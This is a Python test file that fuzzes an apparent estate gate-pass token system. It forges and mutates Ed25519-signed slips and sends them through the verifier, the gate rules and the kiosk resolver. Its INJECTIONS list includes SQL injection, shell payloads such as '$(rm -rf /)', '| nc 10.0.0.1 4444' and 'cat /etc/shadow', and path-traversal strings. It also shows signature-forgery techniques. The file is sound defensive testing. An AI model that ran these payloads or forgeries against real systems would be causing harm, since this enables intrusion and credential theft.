"""Mutated and forged slip tokens: none verifies, none is slow, verify never raises.

Every hostile text is derived from real tokens signed with real Ed25519 keys: bit
flips, changed characters, inserted and deleted bytes, tokens from an unknown key,
tokens re-signed with another key under our key id, fields changed under a kept
signature, another token's signature, non-canonical (malleable) signatures,
truncations, oversized texts and injection strings. Properly signed slips that are
expired or not yet valid DO verify (the signature is sound); the gate rules must
refuse them, which is checked with `decide_slip`. A sample goes through the kiosk's
own Resolver against a real replica and exit log, together with slips the office
key really signed whose ids are SQL, shell and format-string text.
"""
from __future__ import annotations

import base64
import random
import shutil
import time
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from domain import keyfiles as keyring
from domain import slip_token as tok
from domain.model import Gate, LargeItemHours, SlipItem, SlipKind, TokenClaims
from domain.reasons import Reason
from domain.rules import SlipEvidence, decide_slip
from kiosk.exitlog import ExitLog
from kiosk.resolve import Resolver
from kiosk.store import Replica

from .conftest import figures

VERIFY_BOUND_S = 0.050        # issue 6: no token slower than 50 ms to refuse
CAMPAIGN_TOKENS = 10_000
SMALL_TOKENS = 600

KEY = Ed25519PrivateKey.generate()
KEY_ID = tok.key_id_of(tok.public_raw(KEY))
KEYS = {KEY_ID: tok.public_raw(KEY)}
OTHERS = [Ed25519PrivateKey.generate() for _ in range(4)]
NOW = datetime(2026, 11, 25, 10, 0, tzinfo=timezone(timedelta(hours=8)))   # a Wednesday morning
GATE = Gate("north", "北门")
HOURS = LargeItemHours()
L = 2**252 + 27742317777372353535851937790883648493   # order of the Ed25519 base point

INJECTIONS = [
    # SQL
    "' OR '1'='1", "'; DROP TABLE slips;--", '" OR 1=1 --', "1; SELECT * FROM sqlite_master",
    "%' UNION SELECT key FROM signing_keys --", "S1' AND sleep(5)--",
    # shell
    "$(rm -rf /)", "`reboot`", "; shutdown -h now", "| nc 10.0.0.1 4444", "&& cat /etc/shadow", "$IFS$()",
    # format strings
    "%s%s%s%s%n", "%x" * 40, "{0.__class__.__mro__}", "{}", "%(password)s", "{text!r:>{width}}", "%999999999d",
    # control characters
    "\x00", "\x00GP1:AAAA", "\x1b[2J\x1b[H", "\x07" * 10, "\x7f\x08\x08", "GP1:\x00\x00\x00", "\x1b]0;pwned\x07",
    # unicode
    "\u202eGP1:", "\ufeffGP1:AAAA", "ＧＰ１：ＡＡＡＡ", "GP1：AAAA", "🚪🔑" * 20, "业主放行条 3-2-1502", "\u200b" * 50,
    "e\u0301" * 30, "\ud800\udfff", "GP1:АААА",   # Cyrillic A
    # paths and URLs
    "../../etc/passwd", "file:///etc/passwd", "http://evil.example/slip?id=1", "GP1:../../../../",
    # very long
    "A" * 1_000_000, "GP1:" + "7" * 1_000_000, "\x00" * 100_000, "GP1:" + "A" * 189, "😀" * 100_000,
]


def claims(**kw: Any) -> TokenClaims:
    base: dict[str, Any] = dict(slip_id="S261125001", kind=SlipKind.OWNER, unit_id="3-2-1502",
                                valid_from=NOW - timedelta(hours=1), valid_until=NOW + timedelta(days=1),
                                item_count=3, items_digest=tok.items_digest([SlipItem("冰箱", 1, "双开门")]),
                                key_id="", exit_gate_id="")
    base.update(kw)
    return TokenClaims(**base)


def raw_of(text: str) -> bytearray:
    body = text[len(tok.PREFIX):]
    return bytearray(base64.b32decode(body + "=" * (-len(body) % 8)))


def text_of(raw: bytes) -> str:
    return tok.PREFIX + base64.b32encode(bytes(raw)).decode("ascii").rstrip("=")


def random_claims(rng: random.Random) -> TokenClaims:
    start = NOW + timedelta(minutes=rng.randint(-600, 0))
    return claims(slip_id=f"S{rng.randrange(10**9):09d}", kind=rng.choice(list(SlipKind)),
                  unit_id=f"{rng.randint(1, 30)}-{rng.randint(1, 4)}-{rng.randint(101, 3302)}",
                  valid_from=start, valid_until=start + timedelta(hours=rng.randint(2, 72)),
                  item_count=rng.randint(0, 255), exit_gate_id=rng.choice(["", "north"]))


# ---------------------------------------------------------------- the mutations

def m_bit_flips(rng: random.Random, good: str) -> str:
    raw = raw_of(good)
    for _ in range(rng.choice([1, 1, 1, 2, 3, 8])):
        i = rng.randrange(len(raw) * 8)
        raw[i // 8] ^= 1 << (i % 8)
    return text_of(raw)


def m_char_change(rng: random.Random, good: str) -> str:
    t = list(good)
    for _ in range(rng.randint(1, 3)):
        i = rng.randrange(len(tok.PREFIX), len(t))
        t[i] = rng.choice([c for c in "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567abcxyz018=-_ " if c != t[i]])
    return "".join(t)


def m_insert_delete(rng: random.Random, good: str) -> str:
    raw = raw_of(good)
    i = rng.randrange(len(raw))
    if rng.random() < 0.5:
        raw[i:i] = rng.randbytes(rng.randint(1, 4))
    else:
        del raw[i:i + rng.randint(1, 4)]
    return text_of(raw)


def m_unknown_key(rng: random.Random, good: str) -> str:
    return tok.sign(random_claims(rng), rng.choice(OTHERS))


def m_resigned_under_our_kid(rng: random.Random, good: str) -> str:
    """A forger's key signs the slip the forger wants, and claims our key id."""
    forged = raw_of(tok.sign(random_claims(rng), rng.choice(OTHERS)))
    forged[1:5] = bytes.fromhex(KEY_ID)
    return text_of(forged)


def m_field_changed_signature_kept(rng: random.Random, good: str) -> str:
    raw = raw_of(good)
    payload, sig = raw[:-64], raw[-64:]
    c = tok.verify(good, KEYS).claims
    assert c is not None
    other = raw_of(tok.sign(claims(slip_id=c.slip_id, unit_id=c.unit_id, kind=c.kind, valid_from=c.valid_from,
                                   valid_until=c.valid_until + timedelta(days=rng.randint(1, 365)),
                                   item_count=rng.randint(0, 255), exit_gate_id=c.exit_gate_id), KEY))
    return text_of(other[:-64] + sig) if other[:-64] != payload else text_of(payload + bytes(64))


def m_other_signature(rng: random.Random, good: str) -> str:
    raw, other = raw_of(good), raw_of(tok.sign(random_claims(rng), KEY))
    return text_of(raw[:-64] + other[-64:])


def m_malleable_signature(rng: random.Random, good: str) -> str:
    """S + L verifies in a lax implementation; RFC 8032 requires S < L."""
    raw = raw_of(good)
    s = int.from_bytes(raw[-32:], "little")
    choice = rng.randrange(3)
    if choice == 0 and s + L < 2**256:
        raw[-32:] = (s + L).to_bytes(32, "little")
    elif choice == 1:
        raw[-64:] = bytes(64)                               # all-zero signature
    else:
        raw[-64:-32] = (1).to_bytes(32, "little")           # R = the identity point
    return text_of(raw)


def m_truncated(rng: random.Random, good: str) -> str:
    if rng.random() < 0.5:
        return good[: rng.randrange(0, len(good))]
    raw = raw_of(good)
    return text_of(raw[: rng.randrange(0, len(raw))])


def m_oversized(rng: random.Random, good: str) -> str:
    raw = raw_of(good)
    kind = rng.randrange(3)
    if kind == 0:
        return text_of(raw + rng.randbytes(rng.randint(1, 200)))
    if kind == 1:
        return good + "A" * rng.choice([1, 8, 1000, 100_000])
    return good * rng.randint(2, 50)


def m_injection(rng: random.Random, good: str) -> str:
    s = rng.choice(INJECTIONS)
    return rng.choice([s, tok.PREFIX + s, good + s, s + good, good[:40] + s + good[40:]])


def m_case_and_confusables(rng: random.Random, good: str) -> str:
    i = rng.randrange(len(tok.PREFIX), len(good))
    c = good[i]
    repl = c.lower() if c.isalpha() and rng.random() < 0.5 else {"A": "А", "B": "В", "O": "О", "2": "２"}.get(c, "\u200b" + c)
    return good[:i] + repl + good[i + 1:]


MUTATIONS = [
    (m_bit_flips, 25), (m_char_change, 12), (m_insert_delete, 8), (m_unknown_key, 5), (m_resigned_under_our_kid, 10),
    (m_field_changed_signature_kept, 8), (m_other_signature, 4), (m_malleable_signature, 4), (m_truncated, 8),
    (m_oversized, 4), (m_injection, 8), (m_case_and_confusables, 4),
]


@dataclass
class Hostile:
    kind: str
    text: Any


def hostile_tokens(n: int, seed: int) -> list[Hostile]:
    rng = random.Random(seed)
    goods = [tok.sign(random_claims(rng), KEY) for _ in range(50)]
    funcs = [f for f, _ in MUTATIONS]
    weights = [w for _, w in MUTATIONS]
    out: list[Hostile] = [Hostile("injection", s) for s in INJECTIONS]
    out += [Hostile("not a str", x) for x in (None, b"GP1:AAAA", 42, ["GP1:"], goods[0].encode())]
    while len(out) < n:
        good = rng.choice(goods)
        f = rng.choices(funcs, weights)[0]
        text = f(rng, good)
        if text.strip() == good:
            continue             # white space around the same signed token is that token
        out.append(Hostile(f.__name__[2:], text))
    return out[:n]


def _verify_timed(text: Any) -> tuple[tok.TokenVerdict, float]:
    started = time.perf_counter()
    verdict = tok.verify(text, KEYS)
    return verdict, time.perf_counter() - started


def _campaign(n: int, seed: int, check_bound: bool) -> list[Hostile]:
    tok.verify(tok.sign(claims(), KEY), KEYS)        # warm: the first call loads OpenSSL's Ed25519
    hostile = hostile_tokens(n, seed)
    times: list[float] = []
    accepted: list[Hostile] = []
    by_reason: dict[Reason | None, int] = {}
    for h in hostile:
        verdict, took = _verify_timed(h.text)        # never raises: an exception fails the test here
        times.append(took)
        by_reason[verdict.reason] = by_reason.get(verdict.reason, 0) + 1
        if verdict.ok:
            accepted.append(h)
        decision = decide_slip(SlipEvidence(text=str(h.text)[:200], token_reason=verdict.reason, hours=HOURS),
                               GATE, NOW)
        assert not decision.allowed
    assert accepted == [], f"{len(accepted)} forged or damaged tokens verified, e.g. {accepted[:3]}"
    print(f"[tokens] n={len(hostile)} kinds={sorted({h.kind for h in hostile})}")
    print("[tokens] reasons: " + ", ".join(f"{r.value if r else 'ok'}={c}" for r, c in sorted(
        by_reason.items(), key=lambda kv: -kv[1])))
    figures("verify per hostile token", times)
    if check_bound:
        slowest = max(range(len(times)), key=times.__getitem__)
        assert times[slowest] <= VERIFY_BOUND_S, f"{hostile[slowest].kind} took {times[slowest] * 1000:.1f} ms"
    return hostile


def test_mutated_and_forged_tokens_are_all_refused_and_verify_never_raises():
    _campaign(SMALL_TOKENS, seed=3, check_bound=False)


@pytest.mark.faults
@pytest.mark.timeout(1800)
def test_10k_mutated_and_forged_tokens_are_refused_each_within_50_ms():
    _campaign(CAMPAIGN_TOKENS, seed=2026, check_bound=True)


# ---------------------------------------------------------------- sound signatures, wrong time

def _out_of_time(n: int, seed: int) -> None:
    rng = random.Random(seed)
    for k in range(n):
        length = timedelta(minutes=rng.randint(1, 60 * 24 * 30))
        if k % 2:
            start, want = NOW + timedelta(minutes=rng.randint(1, 60 * 24 * 365)), Reason.SLIP_NOT_YET_VALID
        else:
            start, want = NOW - length - timedelta(minutes=rng.randint(0, 60 * 24 * 365)), Reason.SLIP_EXPIRED
        c = claims(slip_id=f"T{k:09d}", valid_from=start, valid_until=start + length)
        verdict = tok.verify(tok.sign(c, KEY), KEYS)
        assert verdict.ok and verdict.claims is not None, "a properly signed slip must verify"
        decision = decide_slip(SlipEvidence(text="", token_reason=None, claims=verdict.claims, hours=HOURS), GATE, NOW)
        assert not decision.allowed and want in decision.reasons, (c, decision.reasons)
    # and the edges, to the minute: valid_until is exclusive, valid_from inclusive
    edge = claims(valid_from=NOW - timedelta(hours=1), valid_until=NOW)
    ev = SlipEvidence(text="", token_reason=None, claims=tok.verify(tok.sign(edge, KEY), KEYS).claims, hours=HOURS)
    assert Reason.SLIP_EXPIRED in decide_slip(ev, GATE, NOW).reasons
    edge = claims(valid_from=NOW + timedelta(minutes=1), valid_until=NOW + timedelta(hours=1))
    ev = SlipEvidence(text="", token_reason=None, claims=tok.verify(tok.sign(edge, KEY), KEYS).claims, hours=HOURS)
    assert Reason.SLIP_NOT_YET_VALID in decide_slip(ev, GATE, NOW).reasons


def test_properly_signed_slips_out_of_their_time_verify_but_the_gate_refuses_them():
    _out_of_time(40, seed=4)


@pytest.mark.faults
@pytest.mark.timeout(600)
def test_1000_properly_signed_expired_or_early_slips_are_refused_by_the_gate_rules():
    _out_of_time(1000, seed=2026)


# ---------------------------------------------------------------- the kiosk's own lookups

def _hostile_ids(rng: random.Random) -> tuple[str, str, str]:
    """Injection text cut to what a token can carry (10, 10 and 6 UTF-8 bytes)."""
    def cut(s: str, limit: int) -> str:
        return s.encode("utf-8")[:limit].decode("utf-8", "ignore")
    pick = [s for s in INJECTIONS if s and "\ud800" not in s]
    return cut(rng.choice(pick), tok.MAX_SLIP_ID), cut(rng.choice(pick), tok.MAX_UNIT_ID), cut(rng.choice(pick), tok.MAX_GATE_ID)


def _resolver_campaign(demo: Any, tmp_path: Path, hostile: list[Hostile], signed: int, seed: int) -> None:
    data = tmp_path / "estate"
    shutil.copytree(demo.data_dir, data)
    replica = Replica.open(data / demo.replica_path.name)
    exit_log = ExitLog.open(data / "exitlog.db", "north")
    before = (replica.counts(), exit_log.last_seq)
    resolver = Resolver(replica, exit_log, HOURS)
    office = keyring.load_private(data / demo.keys_dir.name)
    now = demo.now
    times: list[float] = []
    for h in hostile:
        started = time.perf_counter()
        ev = resolver.slip(h.text)
        times.append(time.perf_counter() - started)
        assert ev.token_reason is not None and ev.claims is None and len(ev.text) <= 200
        assert not decide_slip(ev, GATE, now).allowed
    rng = random.Random(seed)
    for _ in range(signed):
        slip_id, unit_id, gate_id = _hostile_ids(rng)
        text = tok.sign(claims(slip_id=slip_id, unit_id=unit_id, exit_gate_id=gate_id,
                               valid_from=now - timedelta(hours=1), valid_until=now + timedelta(hours=5)), office)
        started = time.perf_counter()
        ev = resolver.slip(text)
        times.append(time.perf_counter() - started)
        # the office really signed it: it verifies, and hostile ids simply find nothing
        assert ev.token_reason is None and ev.claims is not None and ev.claims.slip_id == slip_id
        assert ev.slip is None and ev.unit is None and ev.consumptions == ()
        decide_slip(ev, GATE, now)
    assert (replica.counts(), exit_log.last_seq) == before, "a lookup changed the replica or the log"
    assert replica.db.execute("pragma integrity_check").fetchone()[0] == "ok"
    figures("Resolver.slip per hostile text", times)


def test_the_kiosks_lookups_take_hostile_slip_text_in_their_stride(demo, tmp_path):
    hostile = hostile_tokens(200, seed=8)
    _resolver_campaign(demo, tmp_path, [h for h in hostile if isinstance(h.text, str)], signed=40, seed=8)


@pytest.mark.faults
@pytest.mark.timeout(1800)
def test_a_thousand_hostile_slips_through_the_resolver_and_a_real_replica(demo, tmp_path):
    hostile = hostile_tokens(CAMPAIGN_TOKENS, seed=2026)[::10]
    _resolver_campaign(demo, tmp_path, [h for h in hostile if isinstance(h.text, str)], signed=500, seed=2026)
